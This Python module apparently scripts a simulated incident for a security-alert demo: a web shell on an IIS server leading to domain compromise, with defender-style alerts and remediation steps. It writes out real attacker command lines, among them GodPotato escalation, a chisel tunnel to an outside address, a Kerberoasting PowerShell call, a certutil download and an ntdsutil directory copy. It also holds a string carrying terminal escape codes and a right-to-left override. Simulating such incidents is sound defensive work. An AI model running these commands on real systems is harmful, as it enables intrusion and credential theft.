"""A file in an upload folder of a web server, and the way from there to the domain."""

from __future__ import annotations

from tui.demo.story.alert import AV, MDE, MDI, XDR, Alert
from tui.demo.story.evidence import file, host, ip, process, registry_key, registry_value, url, user
from tui.demo.story.evidence_cloud import security_group
from tui.demo.story.stage import Stage
from tui.demo.story.world import device, person

NAME = "Web shell on IIS-02, credentials stolen from SQL-01"
SUMMARY = (
    "help.aspx was written through the upload form of the supplier portal on IIS-02. Commands of "
    "the application pool listed the domain, svc-sql's ticket was cracked, and a copy of the "
    "directory was taken from DC-01."
)
DESCRIPTION = (
    "The portal's upload takes any file type. The shell was used from two addresses over a night; "
    "the service account's password was weak enough to be found offline."
)
ACTIONS = (
    "Take the portal off the internet and remove help.aspx.\n"
    "Reset svc-sql, then krbtgt twice.\n"
    "Treat every password of the domain as known.\n"
    "Look for the user 'iis_support' on other servers."
)
_SHELL_FOLDER = "C:\\inetpub\\wwwroot\\supplier\\uploads"
_OPERATOR = "94.232.46.202"
_EXIT = "146.70.87.163"
_HOSTILE = (
    "cmd.exe /c echo \x1b]0;owned\x07\x1b[2J%USERNAME%\u200b && whoami /all & rem \u202eexe.lin"
)


def tell(stage: Stage) -> list[Alert]:
    """The alerts, in the order things happened."""
    web, sql, domain = device("IIS-02"), device("SQL-01"), device("DC-01")
    service, keeper = person("svc-sql"), person("adm.keller")
    worker = stage.run(
        "w3wp.exe",
        'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "SupplierPortal" -v "v4.0"',
        web,
        "defaultapppool",
        -60,
    )
    compiler = stage.run(
        "csc.exe",
        '"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" /t:library /utf8output '
        "@App_Web_help.aspx.cdcab7d2.cmdline",
        web,
        "defaultapppool",
        2,
        worker,
    )
    first = stage.run("cmd.exe", _HOSTILE, web, "defaultapppool", 3, worker)
    who = stage.run("whoami.exe", "whoami /all", web, "defaultapppool", 3.1, first)
    admins = stage.run("net.exe", "net localgroup administrators", web, "defaultapppool", 7, worker)
    potato = stage.run(
        "GodPotato.exe",
        'C:\\Windows\\Temp\\GodPotato.exe -cmd "cmd /c net user iis_support P@ss9!x /add"',
        web,
        "defaultapppool",
        44,
        worker,
        folder="C:\\Windows\\Temp",
        content="GodPotato",
    )
    created = stage.run("net.exe", "net user iis_support P@ss9!x /add", web, "system", 44.2, potato)
    rdp = stage.run(
        "reg.exe",
        'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" '
        "/v fDenyTSConnections /t REG_DWORD /d 0 /f",
        web,
        "system",
        51,
        potato,
    )
    tunnel = stage.run(
        "chisel.exe",
        f"C:\\Windows\\Temp\\chisel.exe client {_EXIT}:443 R:socks",
        web,
        "system",
        58,
        potato,
        folder="C:\\Windows\\Temp",
        content="chisel",
    )
    roast = stage.run(
        "powershell.exe",
        'powershell -c "Add-Type -AssemblyName System.IdentityModel; '
        "New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken "
        "-ArgumentList 'MSSQLSvc/sql-01.contoso.com:1433'\"",
        web,
        "system",
        83,
        potato,
    )
    xp = stage.run(
        "cmd.exe",
        "cmd.exe /c certutil -urlcache -f http://10.20.1.19:8080/s.txt s.exe",
        sql,
        "svc-sql",
        240,
    )
    ntds = stage.run(
        "ntdsutil.exe",
        'ntdsutil "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\ifm" q q',
        domain,
        "adm.keller",
        395,
        content="ntdsutil.exe",
    )
    shell_file = file(
        "help.aspx",
        _SHELL_FOLDER,
        web,
        content="help.aspx",
        size=1_412,
        verdict="malicious",
        remediation="remediated",
        roles=("created",),
    )
    bad = {"verdict": "malicious", "remediation": "active"}
    operator = ip(_OPERATOR, "RU", roles=("attacker",), **bad)
    hit = host(web, risk="high")
    return [
        Alert(
            "Suspicious file written by a web server",
            "medium",
            "InitialAccess",
            MDE,
            0,
            [
                hit,
                shell_file,
                process(worker),
                operator,
                url("https://supplier.contoso.com/uploads/help.aspx", verdict="malicious"),
            ],
            ("T1190", "T1505.003"),
            "The process of the web server wrote a file that can run code to an upload folder.",
            "Remove the file. See the web server's log for who asked for it.",
        ),
        Alert(
            "'Backdoor:ASP/Chopper' was detected on IIS-02",
            "high",
            "Persistence",
            AV,
            2,
            [hit, shell_file, process(compiler, verdict="suspicious")],
            ("T1505.003",),
            "The file is a web shell. It was removed after its first use.",
            "Find out what was done before it was removed.",
            threat="Backdoor:ASP/Chopper.F!dha",
            family="Chopper",
            investigation="successfullyRemediated",
        ),
        Alert(
            "Commands run through a web shell",
            "high",
            "Execution",
            MDE,
            3,
            [hit, process(worker), process(first, **bad), process(who), process(admins), operator],
            ("T1059.003", "T1033"),
            "The web server's process started a command interpreter, which it never did before.",
            "Isolate the server.",
            lasts=5,
        ),
        Alert(
            "Privilege escalation by token impersonation",
            "high",
            "PrivilegeEscalation",
            MDE,
            44,
            [
                hit,
                process(potato, **bad),
                file(
                    "GodPotato.exe",
                    "C:\\Windows\\Temp",
                    web,
                    content="GodPotato",
                    verdict="malicious",
                    remediation="remediated",
                ),
            ],
            ("T1134.001",),
            "A known tool made SYSTEM out of the application pool's account.",
            "Isolate the server.",
        ),
        Alert(
            "Local account created by a web server",
            "medium",
            "Persistence",
            MDE,
            44.2,
            [hit, process(created, **bad)],
            ("T1136.001",),
            "An account named iis_support was made on IIS-02.",
            "Remove the account, there and elsewhere.",
        ),
        Alert(
            "Remote desktop was turned on",
            "low",
            "LateralMovement",
            MDE,
            51,
            [
                hit,
                process(rdp),
                registry_value(
                    "HKEY_LOCAL_MACHINE",
                    "SYSTEM\\CurrentControlSet\\Control\\Terminal Server",
                    "fDenyTSConnections",
                    "0",
                    web,
                ),
                registry_key(
                    "HKEY_LOCAL_MACHINE", "SYSTEM\\CurrentControlSet\\Control\\Terminal Server"
                ),
            ],
            ("T1021.001", "T1112"),
            "The registry was changed so that remote desktop connections are accepted.",
            "Change it back.",
        ),
        Alert(
            "Tunnel to an address outside",
            "medium",
            "CommandAndControl",
            MDE,
            58,
            [
                hit,
                process(tunnel, **bad),
                ip(_EXIT, "RO", roles=("commandAndControl",), **bad),
                file("chisel.exe", "C:\\Windows\\Temp", web, content="chisel", verdict="malicious"),
            ],
            ("T1572", "T1090"),
            "A tool that tunnels other connections connected to an address outside.",
            "Block the address; isolate the server.",
            lasts=300,
        ),
        Alert(
            "Suspected Kerberos SPN exposure (Kerberoasting)",
            "high",
            "CredentialAccess",
            MDI,
            83,
            [
                hit,
                process(roast),
                user(service, roles=("attacked",)),
                host(domain, risk="low", roles=("destination",)),
            ],
            ("T1558.003",),
            "Tickets of service accounts were asked for with weak encryption.",
            "Give the service accounts long passwords, or managed ones.",
        ),
        Alert(
            "Service account used from a new device",
            "medium",
            "LateralMovement",
            MDI,
            236,
            [
                user(service, verdict="malicious"),
                host(web, risk="high", roles=("source",)),
                host(sql, risk="high", roles=("destination",)),
                ip(web.ip, verdict="suspicious", roles=("source",)),
            ],
            ("T1078.002", "T1021"),
            "svc-sql signed in to SQL-01 from IIS-02, where it never was.",
            "Reset the account.",
        ),
        Alert(
            "Database server ran a download",
            "medium",
            "Execution",
            MDE,
            240,
            [
                host(sql, risk="high"),
                user(service, verdict="malicious"),
                process(xp, **bad),
                ip(web.ip, verdict="suspicious", roles=("source",)),
            ],
            ("T1059.003", "T1105"),
            "The database's process started a command that fetches a program.",
            "Turn off xp_cmdshell.",
        ),
        Alert(
            "Copy of the directory's database was made",
            "high",
            "CredentialAccess",
            XDR,
            395,
            [
                host(domain, risk="high"),
                user(keeper),
                process(ntds, **bad),
                file(
                    "ntds.dit",
                    "C:\\Windows\\Temp\\ifm\\Active Directory",
                    domain,
                    content="ntds.dit",
                    size=188_743_680,
                    verdict="malicious",
                    roles=("created",),
                ),
                security_group("Domain Admins", verdict="unknown", roles=("compromised",)),
            ],
            ("T1003.003",),
            "ntdsutil wrote a full copy of the directory with every password hash.",
            "Treat every password of the domain as known. Reset krbtgt twice.",
            lasts=4,
            actor="Storm-0501",
        ),
    ]
